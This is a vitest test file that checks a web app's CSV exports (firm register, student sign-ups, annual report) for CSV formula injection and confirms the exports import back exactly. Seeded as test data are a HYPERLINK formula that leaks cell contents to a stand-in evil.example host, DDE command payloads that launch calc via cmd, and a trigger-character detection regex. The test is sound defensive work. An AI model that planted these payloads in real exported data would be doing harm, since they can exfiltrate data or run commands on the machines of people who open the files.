// Every CSV the app writes, with hostile values seeded in the rows: nothing comes out as a cell a spreadsheet would run
// as a formula (OWASP "CSV injection"), and the firm register's export still imports back exactly.
import { parse } from "csv-parse/sync";
import { beforeAll, describe, expect, it } from "vitest";
import { loader as signupsCsvLoader } from "~/routes/professor.projects.$projectId.signups[.]csv";
import { loader as firmExportLoader } from "~/routes/staff.firms.export";
import { action as importAction, loader as importLoader } from "~/routes/staff.firms.import";
import { loader as reportCsvLoader } from "~/routes/staff.reports.$fiscalYear[.]csv";
import { getDb, now } from "~/utils/db.server";
import { createTestFirm, firmInput } from "../factories/firm";
import { createProjectFixture } from "../factories/projects";
import { callAction, callLoader } from "../setup/call";
import { createUser, payload, settle, signIn } from "../setup/http";

const HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A2,"詳細")';
/** A cell a spreadsheet would run: what must never be written. */
const RUNNABLE = /^[=+\-@\t\r＝＋－＠]/u;

let staffCookie: string;
beforeAll(async () => {
  staffCookie = await signIn((await createUser("staff")).id);
});

async function csvRecords(res: unknown): Promise<string[][]> {
  expect(res).toBeInstanceOf(Response);
  const response = res as Response;
  expect(response.status).toBe(200);
  expect(response.headers.get("Content-Type")).toBe("text/csv; charset=utf-8");
  return parse(await response.text(), { bom: true });
}

function expectNothingRunnable(records: string[][]) {
  const runnable = records.flat().filter((cell) => RUNNABLE.test(cell));
  expect(runnable).toEqual([]);
}

const exportFirms = () => settle(callLoader(firmExportLoader, "/staff/firms/export", { cookie: staffCookie }));

describe("the firm register export", () => {
  const hostile = {
    name: HYPERLINK,
    address: "@SUM(1+1)*cmd|' /C calc'!A0",
    phone: "+81-3-1234-5678", // a real phone number that starts with a trigger
    products: "+1",
    description: "-2",
    website: null,
  };

  async function upload(bytes: Uint8Array) {
    const form = new FormData();
    form.append("file", new File([bytes as BlobPart], "export.csv", { type: "text/csv" }));
    const res = (await settle(
      callAction(importAction, "/staff/firms/import", { form, cookie: staffCookie }),
    )) as Response;
    expect(res).toHaveRedirect();
    return Number(res.headers.get("Location")!.split("=")[1]);
  }
  const preview = async (id: number) =>
    payload(await callLoader(importLoader, `/staff/firms/import?id=${id}`, { cookie: staffCookie })).pending;

  it("neutralises every hostile cell, and imports back as 0 new, 0 updated, N unchanged", async () => {
    await createTestFirm(hostile);
    await createTestFirm({ name: "'=既に引用符つき", products: "''-2", description: "'@x" });
    const res = await exportFirms();
    const bytes = new Uint8Array(await (res as Response).clone().arrayBuffer());
    const records = await csvRecords(res);
    expectNothingRunnable(records);
    const row = records.find((r) => r[1] === `'${HYPERLINK}`)!;
    expect(row).toBeDefined();
    expect(row.slice(6, 11)).toEqual(["'@SUM(1+1)*cmd|' /C calc'!A0", "'+81-3-1234-5678", "", "'+1", "'-2"]);
    const quoted = records.find((r) => r[1] === "''=既に引用符つき")!;
    expect([quoted[9], quoted[10]]).toEqual(["'''-2", "''@x"]);

    const before = await getDb().selectFrom("firm").selectAll().orderBy("id").execute();
    const id = await upload(bytes);
    expect((await preview(id)).counts).toEqual({ create: 0, update: 0, unchanged: before.length });
    expect(await getDb().selectFrom("firm").selectAll().orderBy("id").execute()).toEqual(before);
  });

  it("creates a firm from its exported row with exactly the values it had", async () => {
    const input = firmInput({ ...hostile, name: "=1+1 株式会社", products: "'=quoted" });
    const firmId = await createTestFirm(input);
    const bytes = new Uint8Array(await ((await exportFirms()) as Response).arrayBuffer());
    await getDb().deleteFrom("firm").where("id", "=", firmId).execute();

    const id = await upload(bytes);
    expect((await preview(id)).counts.create).toBe(1);
    const confirmed = (await settle(
      callAction(importAction, `/staff/firms/import?id=${id}`, {
        form: { intent: "confirm", importId: String(id) },
        cookie: staffCookie,
      }),
    )) as Response;
    expect(confirmed).toHaveRedirect();
    const created = await getDb()
      .selectFrom("firm")
      .selectAll()
      .where("corporate_number", "=", input.corporate_number)
      .executeTakeFirstOrThrow();
    expect(created).toMatchObject({
      name: "=1+1 株式会社",
      address: hostile.address,
      phone: hostile.phone,
      products: "'=quoted",
      description: "-2",
    });
  });

  it("neutralises a leading tab or CR (which the forms never store, but an old row might hold)", async () => {
    const firmId = await createTestFirm({ name: "\t=1+1", products: "\r=2+2", description: "\t-3" });
    try {
      const records = await csvRecords(await exportFirms());
      expectNothingRunnable(records);
      const row = records.find((r) => r[1] === "'\t=1+1")!;
      expect([row[9], row[10]]).toEqual(["'\r=2+2", "'\t-3"]);
    } finally {
      await getDb().deleteFrom("firm").where("id", "=", firmId).execute();
    }
  });
});

describe("the professor's sign-ups CSV", () => {
  it("neutralises names, the email, the university, the motivation and the ranked firms' names", async () => {
    const p = await createProjectFixture({ hosts: 2 });
    await getDb().updateTable("university").set({ name_ja: "-2 大学" }).where("id", "=", p.universityId).execute();
    const [firstHost] = await getDb()
      .selectFrom("project_host")
      .select("firm_id")
      .where("id", "=", p.hostIds[0])
      .execute();
    await getDb().updateTable("firm").set({ name: "+1 株式会社" }).where("id", "=", firstHost.firm_id).execute();
    const student = await createUser("student", {
      name: HYPERLINK,
      email: "=1+1@evil.example",
      university_id: p.universityId,
    });
    await getDb().updateTable("user").set({ name_kana: "@SUM(A1)" }).where("id", "=", student.id).execute();
    const t = now();
    const { id: signupId } = await getDb()
      .insertInto("signup")
      .values({
        project_id: p.projectId,
        student_id: student.id,
        motivation: "\t=cmd|' /C calc'!A0",
        consented_at: t,
        consent_version: "2026-11",
        created_at: t,
        updated_at: t,
      })
      .returning("id")
      .executeTakeFirstOrThrow();
    await getDb()
      .insertInto("signup_preference")
      .values([
        { signup_id: signupId, host_id: p.hostIds[0], rank: 1 },
        { signup_id: signupId, host_id: p.hostIds[1], rank: 2 },
      ])
      .execute();

    const cookie = await signIn(p.professor.id);
    const records = await csvRecords(
      await settle(
        callLoader(signupsCsvLoader, `/professor/projects/${p.projectId}/signups.csv`, {
          cookie,
          params: { projectId: String(p.projectId) },
        }),
      ),
    );
    expectNothingRunnable(records);
    expect(records[1].slice(0, 4)).toEqual([`'${HYPERLINK}`, "'@SUM(A1)", "'=1+1@evil.example", "'-2 大学"]);
    expect(records[1][5]).toBe("'\t=cmd|' /C calc'!A0");
    expect(records[1][6]).toBe("'+1 株式会社");
  });
});

describe("the annual report CSV", () => {
  it("neutralises university names and keeps the counts as plain numbers", async () => {
    const p = await createProjectFixture();
    await getDb()
      .updateTable("university")
      .set({ name_ja: HYPERLINK, name_en: "@SUM(A1:A9)" })
      .where("id", "=", p.universityId)
      .execute();
    const load = (lng: string) =>
      settle(
        callLoader(reportCsvLoader, "/staff/reports/2026.csv", {
          cookie: staffCookie,
          headers: { "Accept-Language": lng },
          params: { fiscalYear: "2026" },
        }),
      );
    const ja = await csvRecords(await load("ja"));
    expectNothingRunnable(ja);
    const row = ja.find((r) => r[1] === `'${HYPERLINK}`)!;
    expect(row).toBeDefined();
    expect(row.slice(2).every((n) => /^\d+$/.test(n))).toBe(true);
    expect(row[2]).toBe("1"); // the open project counts, as a number

    const en = await csvRecords(await load("en"));
    expectNothingRunnable(en);
    expect(en.some((r) => r[1] === "'@SUM(A1:A9)")).toBe(true);
  });
});
